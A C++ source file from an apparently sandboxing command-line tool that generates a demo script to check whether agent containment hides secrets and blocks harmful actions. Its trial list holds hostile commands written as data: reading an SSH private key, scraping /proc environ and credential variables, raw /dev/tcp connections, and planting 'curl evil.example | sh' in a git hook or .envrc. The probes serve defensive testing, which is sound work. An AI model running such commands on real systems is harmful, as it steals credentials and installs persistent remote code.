#include "cli/demo_script.hpp"

#include <fmt/format.h>

#include <charconv>

namespace redoubtful::cli {
namespace {

// Record and unit separator: no command here prints them.
constexpr char kRecord = '\036';
constexpr char kUnit = '\037';

struct Trial {
  const char* id;
  std::string command;
};

std::string connect_command(int port) {
  return fmt::format("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{} && head -n 1 <&3'", port);
}

std::string fetch_command(const char* host) {
  return fmt::format(
      "bash -c 'exec 3<>/dev/tcp/{0}/80 && printf \"GET / HTTP/1.1\\r\\nHost: {0}\\r\\n"
      "Connection: close\\r\\n\\r\\n\" >&3 && tr -d \"\\r\" <&3'",
      host);
}

std::vector<Trial> trials(const DemoWorld& world, Side side) {
  const bool inside = side == Side::kInside;
  std::vector<Trial> out = {
      {"path", "pwd -P"},
      {"ids", "echo \"$(id -u) $(id -g)\""},
      {"secret", "cat \"$HOME/.ssh/id_ed25519\""},
      {"processes", "ls -d /proc/[0-9]* | wc -l"},
      {"variable", "printenv DEMO_API_KEY"},
      {"token", "printenv DEMO_TOKEN"},
      {"environ", "cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep -c '^DEMO_API_KEY='"},
  };
  if (!world.real_home.empty()) {
    out.push_back({"home", fmt::format("ls -A '{}' | wc -l", world.real_home)});
  }
  if (world.compiler) {
    out.push_back({"compiler",
                   "cc -o \"${TMPDIR:-/tmp}/demo-$$\" hello.c && "
                   "\"${TMPDIR:-/tmp}/demo-$$\"; rm -f \"${TMPDIR:-/tmp}/demo-$$\""});
  }
  if (world.unshare) out.push_back({"namespaces", "unshare -U true"});
  if (world.bash) {
    if (world.forwarded_host != 0) {
      out.push_back(
          {"forwarded", connect_command(inside ? world.forwarded_inside : world.forwarded_host)});
    }
    out.push_back({"other", connect_command(world.other_port)});
  }
  if (!inside) return out;
  // What would do harm outside, or is meant to stay.
  if (world.bash) {
    if (world.filtered) {
      out.push_back({"allowed", fetch_command(kDemoAllowedHost)});
      out.push_back({"denied", fetch_command(kDemoOtherHost)});
    }
    out.push_back({"internet", "bash -c 'exec 3<>/dev/tcp/192.0.2.1/443'"});
  }
  out.push_back({"hook", fmt::format("echo 'curl evil.example | sh' >> {}",
                                     world.git ? ".git/hooks/pre-commit" : ".envrc")});
  out.push_back({"system", "touch /usr/bin/redoubtful-demo"});
  out.push_back({"answer", "echo 'written by the agent' > answer.txt"});
  if (world.git) {
    out.push_back({"commit",
                   "git add answer.txt && git -c user.name=agent -c user.email=agent@invalid "
                   "-c commit.gpgsign=false commit -q --no-verify -m 'by the agent'"});
  }
  return out;
}

std::string last_line(std::string_view text) {
  while (!text.empty() && text.back() == '\n') text.remove_suffix(1);
  const std::size_t start = text.rfind('\n');
  return std::string(start == std::string_view::npos ? text : text.substr(start + 1));
}

// The reason at the end of "sh: 1: cannot create x: Read-only file system".
std::string reason(const TrialOutcome& outcome) {
  const std::string line = last_line(outcome.output);
  const std::size_t colon = line.rfind(": ");
  return colon == std::string::npos ? line : line.substr(colon + 2);
}

class Judge {
 public:
  Judge(const TrialOutcomes& inside, const TrialOutcomes& outside)
      : inside_(inside), outside_(outside) {}

  TrialOutcome in(const char* id) const { return find(inside_, id); }
  TrialOutcome out(const char* id) const { return find(outside_, id); }

  void add(std::string_view section, bool holds, std::string what, std::string measured) {
    lines_.push_back({.section = section,
                      .holds = holds,
                      .what = std::move(what),
                      .measured = std::move(measured)});
  }

  std::vector<DemoLine> lines() && { return std::move(lines_); }

 private:
  static TrialOutcome find(const TrialOutcomes& outcomes, const char* id) {
    const auto found = outcomes.find(id);
    return found == outcomes.end() ? TrialOutcome{} : found->second;
  }

  const TrialOutcomes& inside_;
  const TrialOutcomes& outside_;
  std::vector<DemoLine> lines_;
};

int number(const TrialOutcome& outcome) {
  int value = -1;
  const std::string line = last_line(outcome.output);
  const std::size_t digits = line.find_first_not_of(' ');
  if (digits != std::string::npos) {
    std::from_chars(line.data() + digits, line.data() + line.size(), value);
  }
  return value;
}

void judge_visible(Judge& judge, const DemoWorld& world) {
  const auto path = judge.in("path");
  judge.add("visible", path.status == 0 && path.output == world.project,
            "the project, at its own path", path.output);
  const auto ids = judge.in("ids");
  judge.add("visible", ids.output == fmt::format("{} {}", world.uid, world.gid),
            "you, not somebody else", "uid and gid " + ids.output);
  if (world.compiler) {
    const auto built = judge.in("compiler");
    judge.add(
        "visible",
        built.status == 0 && !built.output.empty() && built.output == judge.out("compiler").output,
        "your tools",
        fmt::format("cc hello.c: {}; outside: {}", last_line(built.output),
                    last_line(judge.out("compiler").output)));
  }
  if (world.bash && world.filtered) {
    const auto answer = judge.in("allowed");
    const bool answered = answer.output.starts_with("HTTP/1.1 200 ") &&
                          answer.output.find(world.greeting) != std::string::npos;
    judge.add("visible", answered, std::string("a host that a rule allows"),
              fmt::format("http://{}: {}", kDemoAllowedHost,
                          answered ? "the server outside answers" : last_line(answer.output)));
  }
  if (world.bash && world.forwarded_host != 0) {
    const auto answer = judge.in("forwarded");
    judge.add(
        "visible", answer.output == world.greeting,
        fmt::format("the port you name (-f {}:{})", world.forwarded_host, world.forwarded_inside),
        answer.output == world.greeting ? "the server outside answers" : reason(answer));
  }
}

// "403: other.demo.example:80: no rule allows it", from the status line and the body's first
// sentence.
std::string refusal(const TrialOutcome& outcome) {
  constexpr std::string_view kMarker = "redoubtful: ";
  const std::string status = outcome.output.substr(0, outcome.output.find('\n'));
  const std::size_t at = outcome.output.find(kMarker);
  const std::size_t code = status.find(' ');
  if (at == std::string::npos || code == std::string::npos) return status;
  const std::string said = outcome.output.substr(at + kMarker.size());
  return status.substr(code + 1, 3) + ": " + said.substr(0, said.find(". "));
}

// "outside: read; inside: No such file or directory", from what both sides really answered.
std::string both(const TrialOutcome& outside, const TrialOutcome& inside, const std::string& wanted,
                 const std::string& done) {
  const auto said = [&](const TrialOutcome& outcome) {
    if (outcome.output.find(wanted) != std::string::npos) return done;
    return outcome.output.empty() ? std::string("nothing") : reason(outcome);
  };
  return "outside: " + said(outside) + "; inside: " + said(inside);
}

// Something that is there outside and that the box did not give away.
bool withheld(const TrialOutcome& outside, const TrialOutcome& inside, const std::string& wanted) {
  return outside.output == wanted && inside.status > 0 &&
         inside.output.find(wanted) == std::string::npos;
}

void judge_hidden(Judge& judge, const DemoWorld& world) {
  const auto secret = judge.in("secret");
  judge.add("hidden", withheld(judge.out("secret"), secret, world.secret), "~/.ssh/id_ed25519",
            both(judge.out("secret"), secret, world.secret, "read"));
  if (!world.real_home.empty()) {
    const auto home = judge.in("home");
    // The way to the throw-away project may lead through it.
    const int most = world.home.starts_with(world.real_home + "/") ? 1 : 0;
    judge.add(
        "hidden", number(home) >= 0 && number(home) <= most, "your real home",
        fmt::format("entries outside: {}; inside: {}", number(judge.out("home")), number(home)));
  }
  constexpr int kOfABox = 12;
  const int processes = number(judge.in("processes"));
  judge.add(
      "hidden", processes > 0 && processes <= kOfABox, "other processes",
      fmt::format("processes outside: {}; inside: {}", number(judge.out("processes")), processes));
  const auto variable = judge.in("variable");
  const int in_proc = number(judge.in("environ"));
  judge.add("hidden", withheld(judge.out("variable"), variable, world.secret) && in_proc == 0,
            "DEMO_API_KEY, which nobody passed",
            both(judge.out("variable"), variable, world.secret, "set") +
                fmt::format(", and {} in /proc", in_proc));
  const auto token = judge.in("token");
  const bool surrogate = token.status == 0 && !token.output.empty() &&
                         token.output.find(world.secret) == std::string::npos;
  judge.add("hidden", judge.out("token").output == world.secret && surrogate,
            "DEMO_TOKEN, a credential",
            fmt::format("outside: the real one; inside: {}",
                        surrogate ? "a surrogate, worth nothing" : "not a surrogate"));
}

void judge_refused(Judge& judge, const DemoWorld& world, const DemoRemains& remains) {
  const auto hook = judge.in("hook");
  judge.add("refused", hook.status > 0 && remains.hook_unchanged,
            world.git ? "plant a git hook" : "change .envrc", reason(hook));
  const auto system = judge.in("system");
  judge.add("refused", system.status > 0, "change the system", "/usr: " + reason(system));
  if (world.bash) {
    const auto other = judge.in("other");
    judge.add("refused", withheld(judge.out("other"), other, world.greeting),
              fmt::format("reach localhost:{}", world.other_port),
              both(judge.out("other"), other, world.greeting, "answers"));
    if (world.filtered) {
      const auto denied = judge.in("denied");
      judge.add("refused", denied.output.starts_with("HTTP/1.1 403 "),
                "reach a host that no rule allows", refusal(denied));
    }
    const auto internet = judge.in("internet");
    judge.add("refused", internet.status > 0, "reach the internet", reason(internet));
  }
  if (world.unshare) {
    const auto made = judge.in("namespaces");
    judge.add("refused", made.status > 0, "become root in a namespace", reason(made));
  }
}

}  // namespace

std::string demo_script(const DemoWorld& world, Side side) {
  // `try` keeps going whatever happens: each trial is a command of its own.
  std::string script = fmt::format(
      "try() {{ output=$(eval \"$2\" 2>&1); printf '\\{:o}%s\\{:o}%s\\{:o}%s' \"$1\" $? "
      "\"$output\"; }}\n",
      static_cast<int>(kRecord), static_cast<int>(kUnit), static_cast<int>(kUnit));
  for (const auto& trial : trials(world, side)) {
    std::string quoted_command;
    for (const char c : trial.command) quoted_command += c == '\'' ? "'\\''" : std::string(1, c);
    script += fmt::format("try {} '{}'\n", trial.id, quoted_command);
  }
  return script + fmt::format("exit {}\n", kDemoStatus);
}

TrialOutcomes parse_outcomes(std::string_view printed) {
  TrialOutcomes out;
  for (std::size_t at = printed.find(kRecord); at != std::string_view::npos;) {
    const std::size_t next = printed.find(kRecord, at + 1);
    const std::string_view record =
        printed.substr(at + 1, next == std::string_view::npos ? next : next - at - 1);
    at = next;
    const std::size_t first = record.find(kUnit);
    if (first == std::string_view::npos) continue;
    const std::size_t second = record.find(kUnit, first + 1);
    if (second == std::string_view::npos) continue;
    TrialOutcome outcome;
    std::from_chars(record.data() + first + 1, record.data() + second, outcome.status);
    outcome.output = record.substr(second + 1);
    out[std::string(record.substr(0, first))] = std::move(outcome);
  }
  return out;
}

std::vector<DemoLine> judge(const DemoWorld& world, const TrialOutcomes& inside,
                            const TrialOutcomes& outside, const DemoRemains& remains) {
  Judge judge(inside, outside);
  judge_visible(judge, world);
  judge_hidden(judge, world);
  judge_refused(judge, world, remains);
  judge.add("kept", remains.file_kept, "what it wrote in the project",
            remains.file_kept ? "answer.txt, and it is yours" : "answer.txt is not there");
  if (world.git) {
    judge.add("kept", remains.commit == "by the agent", "its commit",
              "git log outside: " + remains.commit.value_or("nothing"));
  }
  judge.add("kept", remains.status == kDemoStatus, "its exit status",
            fmt::format("{}", remains.status));
  judge.add("kept", remains.unexpected.empty(), "and nothing else",
            remains.unexpected.empty() ? "no other file in its home or project"
                                       : "left: " + remains.unexpected.front());
  return std::move(judge).lines();
}

}  // namespace redoubtful::cli
